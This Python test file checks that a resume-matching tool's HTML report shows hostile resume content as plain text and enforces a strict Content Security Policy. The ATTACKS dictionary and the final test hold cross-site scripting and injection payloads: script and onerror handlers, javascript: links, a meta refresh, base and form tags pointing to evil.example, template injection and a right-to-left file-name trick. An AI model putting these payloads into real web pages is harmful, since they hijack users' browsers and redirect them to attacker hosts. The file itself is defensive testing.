"""Resumes written to take over the report: what they say is shown as text, and nothing else happens."""

from __future__ import annotations

import re
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from matcher.documents.document import UnreadFile
from matcher.documents.sheet import PagePicture, Place, Sheet, SheetLine
from matcher.reports.safe import clean, shorten
from matcher.resumes.resume import Employment
from tests.browser.kit import files_shown, make, open_all, set_weights
from tests.reports.examples import example_ranking, hostile

LONG = 100_000  # characters of a name
ATTACKS = {
    "script": "<script>window.hacked=1</script>",
    "image": "<img src=x onerror=window.hacked=1>",
    "end-of-attribute": '"><svg onload=window.hacked=1>',
    "end-of-quote": "'><iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "handler": '" onmouseover="window.hacked=1" onfocus="window.hacked=1" autofocus tabindex="1',
    "end-of-script": "</script><script>window.hacked=1</script>",
    "comment": "<!--<script>",
    "cdata": "]]><script>window.hacked=1</script>",
    "template": "{{7*7}}{% raw %}{{ report }}",
    "turned-around": "\u202egpj.exe",
    "escape-code": "\x1b[2J\x1b]0;hacked\x07",
    "link": "javascript:window.hacked=1",
    "anchor": '<a href="javascript:window.hacked=1">click</a>',
    "style": "</style><style>*{display:none!important}</style>",
    "css": "} body { display: none } /* url(https://evil.example/x)",
    "form": '</td></tr></table><form action="https://evil.example"><input name=x><button>OK',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "noscript": "</noscript></title></textarea><img src=x onerror=window.hacked=1>",
    "entity": "&lt;script&gt;&#60;script&#62;&amp;",
    "long": "N" * LONG,
    "half-a-letter": "\ud83d\u0000\ufffe",
}
OURS = ("script", "style", "svg", "image", "img", "iframe", "link", "form", "a", "meta", "base", "object", "embed")
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
ELEMENTS = """names => Object.fromEntries(names.map(name =>
    [name, Array.from(document.querySelectorAll(name)).length]))"""
HANDLERS = """() => Array.from(document.querySelectorAll('*')).flatMap(e => Array.from(e.attributes))
    .filter(a => a.name.startsWith('on') || a.name === 'style' || a.name === 'autofocus'
        || (/^(src|href|action|srcdoc)$/.test(a.name) && !/^(#c|data:image\\/webp;base64,)/.test(a.value)))
    .map(a => a.name + '=' + a.value)"""


def attacker(text):
    """A candidate in whom this text stands wherever a resume, a file or a mail can put it."""
    one = hostile(text)
    post = Employment(text, text, "2019-03", "present", 93, True, ("ct",), place=text)
    person = replace(one.person, email=text, phone=text, city=text, state=text)
    return replace(one, person=person, resume=replace(one.resume, employment=(post, post)))


def attacked(folder, texts):
    """A report of one candidate and two unread files for each text."""
    unread = [UnreadFile(name, "unsupported", text, text) for text in texts for name in (f"{text}.exe", f"{text}/a")]
    ranking = example_ranking(*map(attacker, texts), unread=tuple(unread))
    return make(folder, ranking, {f"{text}.pdf": sheet_of(text) for text in texts})


def sheet_of(text):
    words = tuple(Place(0, 0, 1, 1) for _ in text.split())
    lines = (SheetLine(1, 1, text, words), SheetLine(1, 2, f"{text} {text}"), SheetLine(2, 1, text))
    return Sheet(lines, pictures=(PagePicture(1, 100, 100, b"no picture"),))


def use_all(page):
    """What a reader may do."""
    open_all(page)
    page.locator("#resume-0 a.quote").first.click()
    set_weights(page, [10, 20])
    page.click("button.sort[data-key=name]")
    page.fill("#search", "a")
    page.click("#clear")
    page.locator(".pick:not(:checked)").first.click()
    page.hover("#resume-0 .why")
    page.emulate_media(media="print")
    assert len(page.pdf()) > 1_000
    page.emulate_media(media="screen")


@pytest.fixture(scope="module")
def words(tmp_path_factory):
    """A report that differs in this alone: its texts are no attacks."""
    return attacked(tmp_path_factory.mktemp("words"), [f"word{n}" for n in range(len(ATTACKS))])


@pytest.fixture(scope="module")
def attacks(tmp_path_factory):
    return attacked(tmp_path_factory.mktemp("attacks"), list(ATTACKS.values()))


@pytest.fixture(scope="module")
def used(visit, attacks):
    """The page of all attacks, after all was done that a reader may do."""
    one = visit(attacks.file)
    one.page.on("dialog", lambda dialog: one.wrong.append(f"a dialog: {dialog.message}"))
    use_all(one.page)
    yield one.page
    one.page.context.close()
    assert one.wrong == []


def test_no_attack_runs_and_nobody_leaves_the_page(used, attacks):
    assert used.evaluate("typeof window.hacked") == "undefined"
    assert used.url == attacks.file.as_uri()
    assert used.locator("#ranking").is_visible()
    assert len(files_shown(used)) == len(ATTACKS)


def test_no_attack_adds_an_element_or_a_handler(used, visit, words):
    one = visit(words.file)
    use_all(one.page)
    expected = one.page.evaluate(ELEMENTS, OURS)
    one.page.context.close()
    found = used.evaluate(ELEMENTS, OURS)
    assert found["image"] == len(ATTACKS)
    assert found == expected
    assert used.evaluate(HANDLERS) == []


def test_no_character_that_steers_reaches_the_page(used):
    assert STEERING.search(used.evaluate("document.documentElement.outerHTML")) is None


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_shown_as_text(used, attacks, attack):
    text = ATTACKS[attack]
    n = next(n for n, c in enumerate(attacks.report.candidates) if c.file == f"{text}.pdf")
    assert used.locator(f"tr[data-n='{n}'] button.open").text_content() == shorten(text, 120)
    assert squeezed(text) in squeezed(used.locator(f"tr[data-n='{n}'] td.why").text_content())
    assert squeezed(text) in squeezed(used.locator(f"#resume-{n} .text p[id]").first.text_content())
    assert squeezed(text) in squeezed(used.locator(f"#resume-{n} .contact").text_content())
    assert squeezed(text) in squeezed(used.locator("#unread").text_content())


def squeezed(text):
    return re.sub(r"\s+", " ", clean(text)).strip()


class Tags(HTMLParser):
    """Counts tags, and keeps what they point at."""

    def __init__(self):
        super().__init__()
        self.tags, self.targets, self.policies = Counter(), [], []

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        given = dict(attrs)
        self.targets += [given[name] for name in ("src", "href", "action", "srcset", "data") if given.get(name)]
        if given.get("http-equiv") == "Content-Security-Policy":
            self.policies.append(given["content"])


def tags_of(file):
    parser = Tags()
    parser.feed(file.read_text(encoding="utf-8"))
    parser.close()
    return parser


def test_the_file_points_nowhere_and_has_no_tag_of_a_resume(attacks, words):
    found, expected = tags_of(attacks.file), tags_of(words.file)
    assert found.tags - expected.tags == Counter()
    assert found.targets == []


def test_the_policy_allows_one_script_one_style_and_pictures_in_the_page(samples):
    tags = tags_of(samples.file)
    assert len(tags.policies) == 1
    assert re.fullmatch(
        r"default-src 'none'; script-src 'sha256-[^ ;']+'; style-src 'sha256-[^ ;']+'; img-src data:; "
        r"base-uri 'none'; form-action 'none'",
        tags.policies[0],
    )
    assert tags.targets == []


def test_the_report_loads_opens_and_prints_without_breach_of_its_policy(open_report, samples):
    """`open_report` fails on any message of the console, and a breach is one; this counts the events as well."""
    page = open_report(samples.file)
    page.evaluate(
        "() => { window.breaches = 0; addEventListener('securitypolicyviolation', () => { window.breaches += 1; }); }"
    )
    open_all(page)
    page.emulate_media(media="print")
    page.pdf()
    assert page.evaluate("window.breaches") == 0


def test_the_policy_stops_what_would_get_through(visit, words):
    """The second lock: markup that is put in by force does not run, and fetches nothing."""
    one = visit(words.file)
    one.page.evaluate(
        """() => { document.querySelector('.legend').innerHTML =
            '<img src=x onerror="window.hacked=1"><img src="https://evil.example/x.png"><p style="color:red">'; }"""
    )
    one.page.wait_for_timeout(200)
    assert one.page.evaluate("typeof window.hacked") == "undefined"
    assert sum("Content Security Policy" in what for what in one.wrong) >= 3
    one.page.context.close()
